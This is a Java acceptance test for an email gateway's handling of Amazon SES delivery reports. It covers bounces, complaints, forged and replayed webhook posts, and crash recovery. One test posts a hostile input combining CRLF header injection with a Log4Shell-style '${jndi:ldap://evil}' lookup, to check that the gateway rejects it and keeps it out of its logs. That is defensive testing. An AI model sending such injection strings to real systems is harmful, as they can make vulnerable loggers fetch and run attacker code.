package dev.everpost.acceptance;

import static org.assertj.core.api.Assertions.assertThat;

import dev.everpost.publish.Endpoint;
import dev.everpost.sandbox.SimulatedSes;
import java.io.IOException;
import java.net.URI;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.concurrent.ConcurrentLinkedQueue;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import software.amazon.awssdk.auth.credentials.AwsBasicCredentials;
import software.amazon.awssdk.auth.credentials.StaticCredentialsProvider;
import software.amazon.awssdk.regions.Region;
import software.amazon.awssdk.services.sesv2.SesV2Client;
import software.amazon.awssdk.services.sesv2.model.EventType;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** What a provider reports back reaches the message, and the application that sent it; what nobody signed reaches nothing. */
@Tag("acceptance")
@Timeout(180)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class ReportsTest {

    private static final String APPLICATION = "arn:aws:sns:eu-west-1:123456789012:mail-events";
    private static final String REPORTS = "arn:aws:sns:eu-west-1:123456789012:ses-reports";
    private static final String SECRET = "bus-0123456789abcdef";
    private static final Duration PATIENCE = Duration.ofSeconds(30);

    private static final Endpoint ENDPOINT = new Endpoint();
    private static Rig rig;
    private static SimulatedSes amazon;
    private static HookClient hook;
    private static SesV2Client ses;

    @BeforeAll
    static void start(@TempDir Path folder) throws IOException {
        rig = new Rig(folder);
        amazon = rig.sandbox.ses("amazon", 0, false);
        rig.config.provider("amazon", """
                type: ses, region: eu-west-1, endpoint: "%s", access_key_id: AKIA, secret_access_key: secret, \
                hook: { topic_arn: "%s", certificate_hosts: ["%s"], secret: %s }\
                """.formatted(
                        amazon.endpoint(), REPORTS, amazon.endpoint().getAuthority(), SECRET));
        rig.config.route("match: {}, providers: [amazon], deadline: 1h, on_unknown: wait, unknown_wait: 10m");
        rig.config.also("ses: { region: eu-west-1, account_id: 123456789012 }");
        rig.config.also("topics: { mail-events: { subscriptions: [\"" + ENDPOINT.url() + "\"] } }");
        rig.start();
        hook = new HookClient(rig.config.httpPort, "/hooks/amazon");
        ses = SesV2Client.builder()
                .region(Region.EU_WEST_1)
                .endpointOverride(URI.create("http://127.0.0.1:" + rig.config.httpPort))
                .credentialsProvider(StaticCredentialsProvider.create(
                        AwsBasicCredentials.create(ConfigFile.AWS_KEY_ID, ConfigFile.AWS_SECRET)))
                .build();
        attachTopic();
    }

    @AfterAll
    static void close() {
        ses.close();
        hook.close();
        rig.close();
        ENDPOINT.close();
    }

    @Test
    @Order(1)
    void theTopicAsksAndTheGatewayConfirmsByItsLink() {
        amazon.reportTo(URI.create("http://127.0.0.1:" + rig.config.httpPort + "/hooks/amazon"), REPORTS, 2);

        Await.until("the subscription is confirmed", PATIENCE, amazon::isConfirmed);
    }

    @Test
    @Order(2)
    void theMailboxSimulatorsAddressesComeBackToTheApplicationAsTheyDoFromSes() {
        var bounce = event(send("bounce@simulator.amazonses.com"), "Bounce").path("bounce");
        assertThat(bounce.path("bounceType").asString()).isEqualTo("Permanent");
        assertThat(bounce.path("bounceSubType").asString()).isEqualTo("General");

        var listed =
                event(send("suppressionlist@simulator.amazonses.com"), "Bounce").path("bounce");
        assertThat(listed.path("bounceSubType").asString()).isEqualTo("OnAccountSuppressionList");

        var complaint =
                event(send("complaint@simulator.amazonses.com"), "Complaint").path("complaint");
        assertThat(complaint.path("complaintFeedbackType").asString()).isEqualTo("abuse");
        assertThat(complaint.path("userAgent").asString()).isEqualTo("Amazon SES Mailbox Simulator");

        event(send("success@simulator.amazonses.com"), "Delivery");
        event(send("ooto@simulator.amazonses.com"), "Delivery");
    }

    @Test
    @Order(3)
    void theMessageShowsTheLastWordAndItsEvidence() {
        var id = send("bounce+shown@simulator.amazonses.com");
        var last = lastReport(id, "bounced_for_good");

        assertThat(last.path("provider").asString()).isEqualTo("amazon");
        assertThat(last.path("provider_id").asString()).endsWith("-sandbox-000000");
        assertThat(last.path("status").asString()).isEqualTo("5.1.1");
        var evidence = rig.rest.get(last.path("evidence").asString()).json();
        assertThat(evidence.path("raw").asString()).contains("\"bounceType\":\"Permanent\"");
        assertThat(evidence.path("message").asString()).isEqualTo(id);
    }

    @Test
    @Order(4)
    void aReportProvesWhatNobodyKnewAndTheRecipientGetsOneCopy() {
        amazon.set(new dev.everpost.scenario.ResetAfterData(true));
        var id = send("una@example.net");
        Await.until(
                "the outcome is unknown",
                PATIENCE,
                () -> rig.rest.message(id).at("/recipients/0/unknown_outcomes").asInt() == 1);
        amazon.set();

        assertThat(hook.event(id, "una@example.net", Instant.now(), SECRET)).isEqualTo(200);

        Await.until(
                "it is settled",
                PATIENCE,
                () -> rig.rest.message(id).at("/recipients/0/state").asString().equals("handed_over"));
        assertThat(rig.rest.message(id).path("attempts").size()).isEqualTo(1);
    }

    @Test
    @Order(5)
    void whatNobodySignedOrNobodyCanReadIsRefusedCountedAndChangesNothing() {
        var id = send("ann@example.net");
        lastReport(id, "delivered");
        Await.until("both reports are noted", PATIENCE, () -> reports(id) == 2);
        var before = rig.rest.message(id).toString();
        var genuine = hook.text(id, "ann@example.net", Instant.now());

        assertThat(hook.event(id, "ann@example.net", Instant.now(), "guess")).isEqualTo(403);
        assertThat(hook.post("{\"Type\":\"Notification\",\"TopicArn\":\"" + REPORTS + "\"}", ""))
                .isEqualTo(403);
        assertThat(hook.post(genuine.substring(0, genuine.length() - 9), SECRET))
                .isEqualTo(400);
        assertThat(hook.post("\u0000\u001b[31m\r\nX-Evil: 1 ${jndi:ldap://evil}", SECRET))
                .isEqualTo(400);
        assertThat(hook.post("x".repeat(10_000_001), SECRET)).isEqualTo(413);
        assertThat(hook.at("/hooks/nobody").post("{}", "")).isEqualTo(404);

        assertThat(rig.rest.message(id).toString()).isEqualTo(before);
        assertThat(rig.rest.get("/metrics").text())
                .contains(
                        "everpost_hook_posts_total{end=\"forged\",provider=\"amazon\"} 2",
                        "everpost_hook_posts_total{end=\"malformed\",provider=\"amazon\"} 2",
                        "everpost_hook_posts_total{end=\"too_large\",provider=\"amazon\"} 1",
                        "everpost_unknown_hook_posts_total 1");
        assertThat(rig.gateway().log()).doesNotContain("jndi", "\u001b[31m", "\tat ");
    }

    @Test
    @Order(6)
    void aReplayIsKnownAndAStrayIsShownButTouchesNothing() {
        var id = send("rae@example.net");
        lastReport(id, "delivered");
        var at = Instant.now().plusSeconds(1);
        assertThat(hook.event(id, "rae@example.net", at, SECRET)).isEqualTo(200);
        assertThat(hook.event(id, "rae@example.net", at, SECRET)).isEqualTo(200);
        assertThat(hook.event("0000000000001", "rae@example.net", at, SECRET)).isEqualTo(200);

        Await.until("the replay is counted", PATIENCE, () -> metric("everpost_repeated_reports_total") >= 1);
        Await.until("the report is noted", PATIENCE, () -> reports(id) == 3);
        Await.until("only the stray waits", PATIENCE, () -> metric("everpost_waiting_reports") == 1);
    }

    @Test
    @Order(7)
    void aKillBetweenTheYesAndTheFactLosesNothingAndDoublesNothing() throws InterruptedException {
        var id = send("kim@example.net");
        lastReport(id, "delivered");
        var start = Instant.now().plusSeconds(60);
        var told = new ConcurrentLinkedQueue<Integer>();
        var senders = java.util.stream.IntStream.range(0, 4)
                .mapToObj(sender -> Thread.startVirtualThread(() -> tell(id, start, sender, told)))
                .toList();
        Await.until("some were heard", PATIENCE, () -> told.size() > 40);
        rig.gateway().kill();
        for (var sender : senders) {
            sender.join();
        }
        int heard = told.size();
        rig.start();
        Await.until("all that was heard is noted", PATIENCE, () -> reports(id) >= 2 + heard);

        for (int event = 0; event < 400; event++) {
            assertThat(hook.event(id, "kim@example.net", start.plusMillis(event), SECRET))
                    .isEqualTo(200);
        }
        Await.until("the rest is noted", PATIENCE, () -> reports(id) == 402);
        System.out.printf("kill -9 between yes and fact: %d heard before, 400 told in all, 400 facts%n", heard);
    }

    /** Every fourth of 400 opens, until the gateway is gone. */
    private static void tell(String id, Instant start, int sender, java.util.Queue<Integer> told) {
        for (int event = sender; event < 400; event += 4) {
            if (hook.event(id, "kim@example.net", start.plusMillis(event), SECRET) != 200) {
                return;
            }
            told.add(event);
        }
    }

    private static void attachTopic() {
        var asked = JsonMapper.shared()
                .readTree(ENDPOINT.await(1).getFirst().body())
                .path("SubscribeURL")
                .asString();
        rig.rest.get(asked.substring(asked.indexOf("/sns?")));
        ses.createConfigurationSet(set -> set.configurationSetName("orders"));
        ses.createConfigurationSetEventDestination(attach -> attach.configurationSetName("orders")
                .eventDestinationName("all")
                .eventDestination(to -> to.enabled(true)
                        .matchingEventTypes(List.of(EventType.DELIVERY, EventType.BOUNCE, EventType.COMPLAINT))
                        .snsDestination(sns -> sns.topicArn(APPLICATION))));
    }

    private static String send(String to) {
        return ses.sendEmail(send -> send.fromEmailAddress("shop@example.com")
                        .destination(destination -> destination.toAddresses(to))
                        .configurationSetName("orders")
                        .content(content ->
                                content.simple(simple -> simple.subject(subject -> subject.data("Your order"))
                                        .body(body -> body.text(text -> text.data("Hello"))))))
                .messageId();
    }

    private static double metric(String name) {
        return rig.rest
                .get("/metrics")
                .text()
                .lines()
                .filter(line -> line.startsWith(name))
                .mapToDouble(line -> Double.parseDouble(line.substring(line.lastIndexOf(' ') + 1)))
                .sum();
    }

    private static JsonNode lastReport(String id, String report) {
        Await.until(
                () -> report + " of " + rig.rest.message(id),
                PATIENCE,
                () -> rig.rest
                        .message(id)
                        .at("/recipients/0/last_report/report")
                        .asString("")
                        .equals(report));
        return rig.rest.message(id).at("/recipients/0/last_report");
    }

    private static long reports(String id) {
        return rig.rest
                .message(id)
                .path("timeline")
                .valueStream()
                .filter(fact -> fact.path("type").asString().equals("reported"))
                .count();
    }

    private static JsonNode event(String id, String type) {
        Await.until(
                () -> type + " of " + id + "; log:\n" + rig.gateway().log(),
                PATIENCE,
                () -> !events(id, type).isEmpty());
        return events(id, type).getFirst();
    }

    private static List<JsonNode> events(String id, String type) {
        return ENDPOINT.requests().stream()
                .map(request -> JsonMapper.shared()
                        .readTree(request.body())
                        .path("Message")
                        .asString(""))
                .filter(message -> message.startsWith("{"))
                .map(JsonMapper.shared()::readTree)
                .filter(event -> event.path("eventType").asString().equals(type))
                .filter(event -> event.path("mail").path("messageId").asString().equals(id))
                .toList();
    }
}
